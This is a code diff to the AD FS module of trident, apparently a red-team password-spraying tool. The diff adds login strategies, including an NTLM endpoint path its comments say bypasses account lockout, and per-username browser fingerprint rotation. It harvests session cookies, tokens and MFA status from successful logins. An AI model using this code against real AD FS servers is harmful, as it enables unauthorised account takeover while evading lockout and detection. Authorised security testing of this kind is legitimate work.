@@ -17,28 +17,23 @@ package adfs
 import (
 	"bytes"
 	"context"
-	"crypto/tls"
 	"encoding/xml"
 	"fmt"
+	"io"
 	"io/ioutil"
 	"net/http"
 	netUrl "net/url"
+	"regexp"
 	"strings"
+	"sync"
 	"time"
 
-	"github.com/Azure/go-ntlmssp"
 	"golang.org/x/time/rate"
 
 	"github.com/praetorian-inc/trident/pkg/event"
+	"github.com/praetorian-inc/trident/pkg/fingerprint"
 	"github.com/praetorian-inc/trident/pkg/nozzle"
-)
-
-const (
-	// FrozenUserAgent is a static user agent that we use for all requests. This
-	// value is based on the UA client hint work within browsers.
-	// Additional details: https://bugs.chromium.org/p/chromium/issues/detail?id=955620
-	FrozenUserAgent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" +
-		"AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3764.0 Safari/537.36"
+	"github.com/praetorian-inc/trident/pkg/ntlm"
 )
 
 var (
@@ -64,9 +59,29 @@ func init() {
 // strategy
 //
 // The authenticate strategy to use. This can be one of the following:
-// usernamemixed (default) or ntlm (bypasses external lockout).
+// idpinitiatedsignon (default), usernamemixed or ntlm (the windowstransport
+// endpoint, which bypasses external lockout).
+//
+// simulator
+//
+// The host:port of a trident-idp-sim server to send logins to instead of
+// ADFS, for rehearsing a campaign. When set, domain is not required.
+//
+// insecure
+//
+// Set to true to skip verification of the AD FS server's TLS certificate.
+// Certificates are verified by default.
+//
+// profiles, profile-mode
+//
+// The browser fingerprint profiles to send and how to choose between them. See
+// the fingerprint package for details.
 func (Driver) New(opts map[string]string) (nozzle.Nozzle, error) {
 	domain, ok := opts["domain"]
+	sim, simulated := nozzle.Simulator(opts)
+	if simulated {
+		domain, ok = sim, true
+	}
 	if !ok {
 		return nil, fmt.Errorf("adfs nozzle requires 'domain' config parameter")
 	}
@@ -75,11 +90,33 @@ func (Driver) New(opts map[string]string) (nozzle.Nozzle, error) {
 	if !ok {
 		strategy = "idpinitiatedsignon"
 	}
+	switch strategy {
+	case "idpinitiatedsignon", "usernamemixed", "ntlm":
+	case "windowstransport":
+		strategy = "ntlm"
+	default:
+		return nil, fmt.Errorf("adfs nozzle: unknown strategy %q", strategy)
+	}
+
+	profiles, err := fingerprint.NewSelector(opts)
+	if err != nil {
+		return nil, err
+	}
+
+	insecure, err := nozzle.Insecure(opts)
+	if err != nil {
+		return nil, fmt.Errorf("adfs nozzle: %v", err)
+	}
+	client := nozzle.NewClient(insecure)
+	if simulated {
+		client = nozzle.SimulatorClient
+	}
 
 	return &Nozzle{
-		Domain:    domain,
-		Strategy:  strategy,
-		UserAgent: FrozenUserAgent,
+		Domain:   domain,
+		Strategy: strategy,
+		Profiles: profiles,
+		Client:   client,
 	}, nil
 }
 
@@ -91,10 +128,35 @@ type Nozzle struct {
 	// Strategy is the adfs authentication strategy
 	Strategy string
 
-	// UserAgent will override the Go-http-client user-agent in requests
-	UserAgent string
+	// Profiles selects the browser headers sent with each request
+	Profiles *fingerprint.Selector
+
+	// Client is the HTTP client used to send requests. Redirects are never
+	// followed.
+	Client *http.Client
+}
+
+// sessionLifetime is how long an MSISSamlRequest cookie is reused before a new
+// one is requested. ADFS also rejects contexts it no longer recognizes by
+// showing the sign-in page again, which refreshes the cookie early.
+const sessionLifetime = 5 * time.Minute
+
+// maxBodySize limits the response body read for classification
+const maxBodySize = 1 << 20
+
+// session is an MSISSamlRequest cookie and when it is next refreshed.
+type session struct {
+	cookie  string
+	expires time.Time
 }
 
+// sessions holds the sign-in context of each domain used by the
+// idpinitiatedsignon strategy.
+var sessions = struct {
+	sync.Mutex
+	domains map[string]session
+}{domains: map[string]session{}}
+
 var (
 	windowsTransportURL     = "https://%s/adfs/services/trust/2005/windowstransport"
 	windowsTransportRequest = `<?xml version="1.0" encoding="UTF-8"?>
@@ -150,34 +212,79 @@ var (
 </s:Envelope>`
 	idpInitiatedSignonURL      = "https://%s/adfs/ls/idpinitiatedsignon"
 	idpInitiatedSignonRequest1 = "SignInIdpSite=SignInIdpSite&SignInSubmit=Sign+in&SingleSignOut=SingleSignOut"
-	msisSamlRequestCookie      = ""
 	idpInitiatedSignonRequest2 = "UserName=%s&Password=%s&AuthMethod=FormsAuthentication"
 )
 
+var authMethodRegexp = regexp.MustCompile(`name="AuthMethod"[^>]*value="([^"]*)"`)
+
 func escape(s string) string {
 	var b bytes.Buffer
 	xml.EscapeText(&b, []byte(s)) // nolint:gosec,errcheck
 	return b.String()
 }
 
-func (n *Nozzle) ntlmStrategy(username, password string) (*event.AuthResponse, error) {
-	url := fmt.Sprintf(windowsTransportURL, n.Domain)
-	data := fmt.Sprintf(windowsTransportRequest, n.Domain, n.Domain)
+// client returns a copy of the nozzle's client which does not follow
+// redirects.
+func (n *Nozzle) client() *http.Client {
+	client := *n.Client
+	client.CheckRedirect = func(req *http.Request, via []*http.Request) error {
+		return http.ErrUseLastResponse
+	}
+	return &client
+}
+
+// trustResponse classifies the response of a WS-Trust endpoint. An issued
+// token is a valid login and a SOAP fault is normalized with the faultCodes
+// table.
+func trustResponse(resp *http.Response) (*event.AuthResponse, error) {
+	body, err := ioutil.ReadAll(io.LimitReader(resp.Body, maxBodySize))
+	if err != nil {
+		return nil, err
+	}
+
+	metadata := map[string]interface{}{
+		"status": resp.StatusCode,
+	}
 
-	client := &http.Client{
-		Transport: ntlmssp.Negotiator{
-			RoundTripper: &http.Transport{
-				TLSClientConfig: &tls.Config{
-					InsecureSkipVerify: true, // nolint:gosec
-				},
+	env, ok := parseEnvelope(body)
+	switch {
+	case ok && env.token():
+		return &event.AuthResponse{
+			Valid:      true,
+			UserStatus: event.UserStatusExists,
+			Metadata:   metadata,
+			Artifacts: &event.Artifacts{
+				Tokens: map[string]string{"RequestSecurityTokenResponse": string(body)},
+				MFA:    event.MFAPostureNotEnforced,
 			},
-		},
+		}, nil
+	case ok && env.Reason != "":
+		return faultResponse(env, metadata), nil
+	case resp.StatusCode == 401:
+		return &event.AuthResponse{
+			Valid:    false,
+			Metadata: metadata,
+		}, nil
+	case resp.StatusCode == 429:
+		return &event.AuthResponse{
+			RateLimited: true,
+			Metadata:    metadata,
+		}, nil
 	}
 
-	req, _ := http.NewRequest("GET", url, strings.NewReader(data))
+	return nil, fmt.Errorf("unrecognized adfs response: %d", resp.StatusCode)
+}
+
+func (n *Nozzle) ntlmStrategy(ctx context.Context, username, password string) (*event.AuthResponse, error) {
+	url := fmt.Sprintf(windowsTransportURL, n.Domain)
+	data := fmt.Sprintf(windowsTransportRequest, n.Domain, n.Domain)
+
+	client := ntlm.Client(n.client())
+
+	req, _ := http.NewRequestWithContext(ctx, "POST", url, strings.NewReader(data))
 	req.SetBasicAuth(username, password)
 	req.Header.Set("Content-Type", "application/soap+xml")
-	req.Header.Set("User-Agent", n.UserAgent)
+	n.Profiles.Apply(req, username)
 	resp, err := client.Do(req)
 	if err != nil {
 		return nil, err
@@ -188,163 +295,219 @@ func (n *Nozzle) ntlmStrategy(username, password string) (*event.AuthResponse, e
 		return nil, fmt.Errorf("ntlm not enabled externally")
 	}
 
-	body, err := ioutil.ReadAll(resp.Body)
-	if err != nil {
-		return nil, err
-	}
-
-	return &event.AuthResponse{
-		Valid:  resp.StatusCode == 200,
-		MFA:    false,
-		Locked: false,
-		Metadata: map[string]interface{}{
-			"xml": string(body),
-		},
-	}, nil
+	return trustResponse(resp)
 }
 
-func (n *Nozzle) usernameMixedStrategy(username, password string) (*event.AuthResponse, error) {
+func (n *Nozzle) usernameMixedStrategy(ctx context.Context, username, password string) (*event.AuthResponse, error) {
 	url := fmt.Sprintf(usernameMixedURL, n.Domain)
 	data := fmt.Sprintf(usernameMixedRequest,
 		n.Domain, escape(username), escape(password), n.Domain)
 
-	client := &http.Client{
-		Transport: &http.Transport{
-			TLSClientConfig: &tls.Config{
-				InsecureSkipVerify: true, // nolint:gosec
-			},
-		},
-	}
-
-	req, _ := http.NewRequest("GET", url, strings.NewReader(data))
+	req, _ := http.NewRequestWithContext(ctx, "POST", url, strings.NewReader(data))
 	req.Header.Set("Content-Type", "application/soap+xml")
-	req.Header.Set("User-Agent", n.UserAgent)
-	resp, err := client.Do(req)
+	n.Profiles.Apply(req, username)
+	resp, err := n.client().Do(req)
 	if err != nil {
 		return nil, err
 	}
 	defer resp.Body.Close() // nolint:errcheck
 
-	body, err := ioutil.ReadAll(resp.Body)
-	if err != nil {
-		return nil, err
+	if resp.StatusCode == 503 {
+		return nil, fmt.Errorf("usernamemixed not enabled externally")
 	}
 
-	return &event.AuthResponse{
-		Valid:  resp.StatusCode == 200,
-		MFA:    false,
-		Locked: false,
-		Metadata: map[string]interface{}{
-			"status": resp.StatusCode,
-			"xml":    string(body),
-		},
-	}, nil
+	return trustResponse(resp)
 }
 
-func (n *Nozzle) idpInitiatedSignon(username, password string) (*event.AuthResponse, error) {
-	// Set the MSISSamlRequest cookie
-	if msisSamlRequestCookie == "" {
-		err := n.setMSISSamlRequestCookie()
+// idpInitiatedSignon posts the forms authentication page. The sign-in context
+// is refreshed and the login retried once if ADFS no longer recognizes it.
+func (n *Nozzle) idpInitiatedSignon(ctx context.Context, username, password string) (*event.AuthResponse, error) {
+	rejected := ""
+	for refresh := false; ; refresh = true {
+		cookie, err := n.samlRequest(ctx, username, rejected)
 		if err != nil {
 			return nil, err
 		}
+
+		res, expired, err := n.idpInitiatedSignonAttempt(ctx, username, password, cookie)
+		if err != nil || !expired {
+			return res, err
+		}
+		if refresh {
+			return nil, fmt.Errorf("adfs did not accept a new MSISSamlRequest cookie")
+		}
+		rejected = cookie
 	}
+}
 
+func (n *Nozzle) idpInitiatedSignonAttempt(ctx context.Context, username, password, cookie string) (*event.AuthResponse, bool, error) {
 	url := fmt.Sprintf(idpInitiatedSignonURL, n.Domain)
 	data := fmt.Sprintf(idpInitiatedSignonRequest2, netUrl.QueryEscape(username), netUrl.QueryEscape(password))
 
-	client := &http.Client{
-		Transport: &http.Transport{
-			TLSClientConfig: &tls.Config{
-				InsecureSkipVerify: true, // nolint:gosec
-			},
-		},
-		// Ignore the redirect
-		CheckRedirect: func(req *http.Request, via []*http.Request) error {
-			return http.ErrUseLastResponse
-		},
-	}
-
-	req, _ := http.NewRequest("POST", url, strings.NewReader(data))
+	req, _ := http.NewRequestWithContext(ctx, "POST", url, strings.NewReader(data))
 	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-	req.Header.Set("User-Agent", n.UserAgent)
-	req.AddCookie(&http.Cookie{Name: "MSISSamlRequest", Value: msisSamlRequestCookie})
-	resp, err := client.Do(req)
+	n.Profiles.Apply(req, username)
+	req.AddCookie(&http.Cookie{Name: "MSISSamlRequest", Value: cookie})
+	resp, err := n.client().Do(req)
 	if err != nil {
-		return nil, err
+		return nil, false, err
 	}
 	defer resp.Body.Close() // nolint:errcheck
 
-	var MSISAuthCookie = ""
-	for _, cookie := range resp.Cookies() {
-		if cookie.Name == "MSISAuth" {
-			MSISAuthCookie = cookie.Value
+	body, err := ioutil.ReadAll(io.LimitReader(resp.Body, maxBodySize))
+	if err != nil {
+		return nil, false, err
+	}
+
+	metadata := map[string]interface{}{
+		"status": resp.StatusCode,
+	}
+
+	switch {
+	case strings.Contains(resp.Header.Get("Location"), "/adfs/portal/updatepassword"):
+		metadata["passwordExpired"] = true
+		return &event.AuthResponse{
+			Valid:      true,
+			UserStatus: event.UserStatusExists,
+			Metadata:   metadata,
+			Artifacts:  sessionArtifacts(resp, event.MFAPostureUnknown),
+		}, false, nil
+	case resp.StatusCode == 302:
+		return &event.AuthResponse{
+			Valid:      true,
+			UserStatus: event.UserStatusExists,
+			Metadata:   metadata,
+			Artifacts:  sessionArtifacts(resp, event.MFAPostureNotEnforced),
+		}, false, nil
+	case resp.StatusCode == 429:
+		return &event.AuthResponse{
+			RateLimited: true,
+			Metadata:    metadata,
+		}, false, nil
+	case resp.StatusCode != 200:
+		return nil, false, fmt.Errorf("unrecognized adfs response: %d", resp.StatusCode)
+	}
+
+	if text := errorText(body); text != "" {
+		metadata["errorText"] = text
+		o, ok := classify("", text)
+		if !ok {
+			metadata["unrecognizedError"] = true
+			return &event.AuthResponse{
+				Valid:    false,
+				Metadata: metadata,
+			}, false, nil
 		}
+		return o.Response(metadata), false, nil
 	}
 
-	return &event.AuthResponse{
-		Valid:  resp.StatusCode == 302,
-		MFA:    false,
-		Locked: false,
-		Metadata: map[string]interface{}{
-			"status":         resp.StatusCode,
-			"MSISAuthCookie": MSISAuthCookie,
-		},
-	}, nil
+	// a second authentication method is requested once the password has been
+	// accepted
+	if m := authMethodRegexp.FindSubmatch(body); m != nil && string(m[1]) != "FormsAuthentication" {
+		metadata["authMethod"] = string(m[1])
+		artifacts := sessionArtifacts(resp, event.MFAPostureEnforced)
+		artifacts.Factors = []event.Factor{{Type: string(m[1])}}
+		return &event.AuthResponse{
+			Valid:      true,
+			MFA:        true,
+			UserStatus: event.UserStatusExists,
+			Metadata:   metadata,
+			Artifacts:  artifacts,
+		}, false, nil
+	}
+
+	// the sign-in page without an error means the context was not recognized
+	if bytes.Contains(body, []byte("SignInIdpSite")) || bytes.Contains(body, []byte(`name="UserName"`)) {
+		return nil, true, nil
+	}
+
+	return nil, false, fmt.Errorf("unrecognized adfs response: %d", resp.StatusCode)
 }
 
-func (n *Nozzle) setMSISSamlRequestCookie() error {
-	url := fmt.Sprintf(idpInitiatedSignonURL, n.Domain)
-	data := idpInitiatedSignonRequest1
+// sessionArtifacts returns the MSISAuth session cookies set by a sign-in.
+// Large sessions are split across MSISAuth1, MSISAuth2, and so on.
+func sessionArtifacts(resp *http.Response, posture event.MFAPosture) *event.Artifacts {
+	a := &event.Artifacts{MFA: posture}
+	for _, c := range resp.Cookies() {
+		if !strings.HasPrefix(c.Name, "MSISAuth") {
+			continue
+		}
+		a.Cookies = append(a.Cookies, event.Cookie{
+			Name:    c.Name,
+			Value:   c.Value,
+			Domain:  c.Domain,
+			Path:    c.Path,
+			Expires: c.Expires,
+		})
+	}
+	return a
+}
 
-	client := &http.Client{
-		Transport: &http.Transport{
-			TLSClientConfig: &tls.Config{
-				InsecureSkipVerify: true, // nolint:gosec
-			},
-		},
+// samlRequest returns the domain's MSISSamlRequest cookie, requesting a new
+// one when there is none, it has expired, or it is the rejected cookie. A
+// cookie which another login has already replaced is not requested again.
+func (n *Nozzle) samlRequest(ctx context.Context, username, rejected string) (string, error) {
+	sessions.Lock()
+	defer sessions.Unlock()
+
+	if s, ok := sessions.domains[n.Domain]; ok && s.cookie != rejected &&
+		time.Now().Before(s.expires) {
+		return s.cookie, nil
 	}
 
-	req, _ := http.NewRequest("POST", url, strings.NewReader(data))
+	url := fmt.Sprintf(idpInitiatedSignonURL, n.Domain)
+	data := idpInitiatedSignonRequest1
+
+	req, _ := http.NewRequestWithContext(ctx, "POST", url, strings.NewReader(data))
 	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-	req.Header.Set("User-Agent", n.UserAgent)
-	resp, err := client.Do(req)
+	n.Profiles.Apply(req, username)
+	resp, err := n.client().Do(req)
 	if err != nil {
-		return err
+		return "", err
 	}
 	defer resp.Body.Close() // nolint:errcheck
 
-	for _, cookie := range resp.Cookies() {
-		if cookie.Name == "MSISSamlRequest" {
-			msisSamlRequestCookie = cookie.Value
+	cookie := ""
+	for _, c := range resp.Cookies() {
+		if c.Name == "MSISSamlRequest" {
+			cookie = c.Value
 		}
 	}
 
-	if msisSamlRequestCookie == "" {
-		return fmt.Errorf("MSISSamlRequest cookie was not in the HTTP response")
+	if cookie == "" {
+		return "", fmt.Errorf("MSISSamlRequest cookie was not in the HTTP response")
 	}
 
-	return nil
+	sessions.domains[n.Domain] = session{
+		cookie:  cookie,
+		expires: time.Now().Add(sessionLifetime),
+	}
+	return cookie, nil
 }
 
 // Login fulfils the nozzle.Nozzle interface and performs an authentication
 // requests against adfs. This function supports rate limiting and parses valid,
-// invalid, and locked out responses.
+// invalid, locked out and expired responses.
 func (n *Nozzle) Login(username, password string) (*event.AuthResponse, error) {
-	ctx := context.Background()
+	return n.LoginContext(context.Background(), username, password)
+}
+
+// LoginContext fulfils the nozzle.ContextNozzle interface. The request is
+// cancelled with ctx.
+func (n *Nozzle) LoginContext(ctx context.Context, username, password string) (*event.AuthResponse, error) {
 	err := RateLimiter.Wait(ctx)
 	if err != nil {
 		return nil, err
 	}
 
 	if n.Strategy == "ntlm" {
-		return n.ntlmStrategy(username, password)
+		return n.ntlmStrategy(ctx, username, password)
 	}
 
 	if n.Strategy == "usernamemixed" {
-		return n.usernameMixedStrategy(username, password)
+		return n.usernameMixedStrategy(ctx, username, password)
 	}
 
 	// Default strategy is idpinitiatedsignon
-	return n.idpInitiatedSignon(username, password)
+	return n.idpInitiatedSignon(ctx, username, password)
 }